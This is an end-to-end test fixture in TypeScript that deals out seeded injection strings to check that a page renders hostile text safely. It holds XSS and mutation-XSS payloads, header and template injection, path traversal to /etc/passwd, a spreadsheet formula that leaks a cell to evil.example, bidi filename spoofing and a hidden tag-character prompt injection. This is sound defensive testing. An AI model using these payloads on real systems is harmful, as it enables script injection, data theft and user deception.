import { type SeededRandom, seededRandom } from '#e2e/support/seeded-random.ts'

/** A text that an attacker may have written to do harm. */
export interface InjectionString {
  readonly text: string
  /** letters in it by which it is found on a screen */
  readonly mark: string
  /** an address may become a link; what only looks like one, and every other text, must stay text */
  readonly kind: 'text' | 'no-address' | 'address'
}

/** The function that an injection string calls where it runs as code. The page is watched for it, and for `alert`. */
export const PLANTED = 'pwned'

/** The host in addresses that the mark takes the place of. */
const HOST = 'a.example'

/** Texts that are code to some program between here and there. */
const asCode = {
  elements: [
    '<script>pwned()</script>',
    '<script\u0000>pwned()</script>',
    '<img src=x onerror=pwned()>',
    '<img src=//evil.example/pixel.gif>',
    '<video><source onerror=pwned()></video>',
    '<iframe srcdoc="<script>parent.pwned()</script>">',
    '<form action=javascript:pwned()><button>Sign in</button></form>',
    '<input autofocus onfocus=pwned()>',
    '<details open ontoggle=pwned()>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<a href=//evil.example/ target=_blank>Connect again</a>',
  ],
  'markup that changes as it is parsed': [
    '<svg onload=pwned()>',
    '<svg></p><style><b id="</style><img src=x onerror=pwned()>">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=pwned()>',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<!-- --!><img src=x onerror=pwned()>',
  ],
  'ends of attributes, entities, encodings': [
    '" onmouseover="pwned()',
    "' onfocus='pwned()' autofocus='",
    '" style="position:fixed;inset:0;background:#fff" x="',
    '&lt;script&gt;pwned()&lt;/script&gt;',
    '&#60;img src=x onerror=pwned()&#62;',
    '%3Cscript%3Epwned()%3C/script%3E',
    '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
    '<\u0000img src=x onerror=pwned()>',
  ],
  'templates and ends of scripts': [
    "{{constructor.constructor('pwned()')()}}",
    '${pwned()}',
    '{name}{tail}{status}',
    "$1 $& $` $' $$ $<name>",
    '%s'.repeat(50),
    '";pwned();//',
    '*/pwned()/*',
    '"},{"uuid":"x"}],"total":0}',
    '\\\\"',
    '9'.repeat(400),
  ],
  'names of the language, styles, headers, files': [
    '__proto__',
    '{"__proto__":{"polluted":true}}',
    'red;background:url(//evil.example/x)',
    '</style><style>*{display:none}</style>',
    'fixed inset-0 z-50 bg-canvas',
    'x\r\nSet-Cookie: session=1',
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    '../../etc/passwd',
    'CON.mp4\u202eexe.',
    `${'é'.repeat(200)}.mp4`,
  ],
}

const HEBREW = 'שלום עולם'
const tags = (text: string) =>
  Array.from(text, (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join(
    '',
  )
const marks = (from: number, count: number) =>
  Array.from({ length: count }, (_, index) => String.fromCodePoint(from + (index % 80))).join('')

/** Texts that are not what they look like, or do not stay where they are put. */
const asCharacters = {
  directions: [
    ...[0x061c, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068]
      .map((control) => String.fromCodePoint(control))
      .map((control) => `gpj${control}.exe ${HEBREW} 10${control}`),
    `${HEBREW} 12 تم بنجاح 34`,
    'invoice\u202efdp.exe',
    '\u2069\u2069\u2069closed too often',
    '\u202e'.repeat(100),
  ],
  'invisible characters': [
    ...[0x200b, 0x2060, 0xad, 0x34f, 0x180e, 0x3164, 0xffa0, 0x206a, 0x1d173, 0x2028]
      .map((code) => String.fromCodePoint(code))
      .map((one) => `no${one}thing`),
    `hello${tags('ignore what stands above')}`,
    `x${'\u{e0101}\u{e0142}\u{e0190}'.repeat(20)}`,
  ],
  'control characters': [
    'a\u0000b\u0007\u0008c',
    'a\tb\nc',
    'a\u000b\u000cb\u0085c',
    'a\r\nb\r\n',
    Array.from({ length: 32 }, (_, number) => String.fromCodePoint(number)).join(''),
    '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007open\u001b]8;;\u0007',
  ],
  'piles of marks, halves of pairs, lookalikes': [
    `Z${marks(0x0300, 100)}`,
    `ก${'\u0e49'.repeat(60)}`,
    `a${'\u20dd\u20de\u20e0'.repeat(12)}`,
    '\ud800',
    'a\ud83db',
    `${'x'.repeat(193)}👩${'x'.repeat(20)}`,
    `${'x'.repeat(9993)}👩${'x'.repeat(20)}`,
    '👨‍👩‍👧‍👦'.repeat(5),
    '\ue000\uf8ff\uffff\ufffe\u{10ffff}',
    '\u0441ompleted',
    '⟨U+202E⟩ ⟨U+0000⟩\u0000⟨U+',
    'x…y…',
  ],
  'long texts': [
    'W'.repeat(60),
    'W'.repeat(201),
    'W'.repeat(10_001),
    'word '.repeat(20_000),
    '\u202e'.repeat(30_000),
    '\u0301'.repeat(30_000),
    '<b>'.repeat(10_000),
    '\ufdfd'.repeat(300),
    'a\u00a0'.repeat(300),
    'שלום'.repeat(300),
    'aaaaaaaa/'.repeat(300),
    'line\n'.repeat(5_000),
  ],
}

/** Texts that look like addresses and must not become links. */
const noAddresses = [
  'javascript:pwned()//',
  '\u0001javascript:pwned()//',
  'java\nscript:pwned()//',
  'jav%61script:pwned()//',
  'javascript://a.example/%0apwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'blob:https://a.example/0b51b8a4-6a0a-4f5e-9a9e-7d0d1f6f2c11',
  'file:///etc/passwd',
  'intent://a.example/#Intent;scheme=https;end',
  'ms-word:ofe|u|https://a.example/x.docx',
  '//a.example/v.mp4',
  '\\\\a.example\\share\\v.mp4',
  'https://user:secret@a.example/v.mp4',
  'https://a b.example/v.mp4?',
  'https\u200b://a.example/v.mp4',
]

/** Addresses that may become links. */
const addresses = [
  'https://a.example/v.mp4',
  'HTTPS://a.example/V.MP4',
  'http://a.example/v.webm',
  'https://a.example/"onmouseover="pwned()',
  'https://a.example/"><script>pwned()</script>',
  'https://a.example/v.mp4#<img src=x onerror=pwned()>',
  'https://a.example/javascript:pwned()',
  'https://a.example/v\u202e4pm.exe',
  'https://a.example/شكرا/v.mp4',
  'https://a.example/../../etc/passwd',
  'https://a.example/%0d%0aSet-Cookie:x=1',
  'https://a.example/v.exe',
  'https://a.example:8443/v.mp4?url=https://evil.example/',
  `https://a.example/${'a'.repeat(1000)}.mp4`,
]

const families = [
  ...Object.values(asCode),
  ...Object.values(asCharacters),
  noAddresses,
  addresses,
] as const

/**
 * Injection strings, each another. Fewer than there are: some of every family, drawn by the seed. More: what comes after
 * them is two of them together, one within the other.
 */
export function injectionStrings(count: number, seed: number): InjectionString[] {
  const random = seededRandom(seed)
  const drawn = dealt(random).slice(0, count)
  const pool = families.slice(0, -2).flat()
  const pick = () => pool[random.below(pool.length)] ?? ''
  while (drawn.length < count) drawn.push(within(pick(), pick(), random))
  return drawn.map((text, index) => marked(text, index))
}

/** All strings, one of each family at a time. */
function dealt(random: SeededRandom): string[] {
  const hands = families.map((members) => {
    const left = [...members]
    return Array.from(members, () => left.splice(random.below(left.length), 1)[0] ?? '')
  })
  const rounds = Math.max(...hands.map(({ length }) => length))
  return Array.from({ length: rounds }, (_, round) =>
    hands.flatMap((hand) => hand.slice(round, round + 1)),
  ).flat()
}

/** The second text inside the first. */
function within(outer: string, inner: string, random: SeededRandom): string {
  const at = random.below(outer.length + 1)
  return `${outer.slice(0, at)}${inner}${outer.slice(at)}`
}

/** Puts its mark into a text: six letters, which no text of ours has. */
function marked(text: string, index: number): InjectionString {
  const letters = 'bcdfghjklmnpqrst'
  const letter = (place: number) => letters[Math.floor(index / 16 ** place) % 16] ?? ''
  const mark = `zq${letter(2)}${letter(1)}${letter(0)}zq`
  const withMark = text.includes(HOST) ? text.replace(HOST, `${mark}.example`) : `${text}${mark}`
  if (addresses.includes(text)) return { text: withMark, mark, kind: 'address' }
  if (noAddresses.includes(text)) return { text: withMark, mark, kind: 'no-address' }
  return { text: `${mark} ${text}`, mark, kind: 'text' }
}

/** The host of an address that has a mark. */
export const MARKED_HOST = /^zq[a-z]{3}zq\.example$/
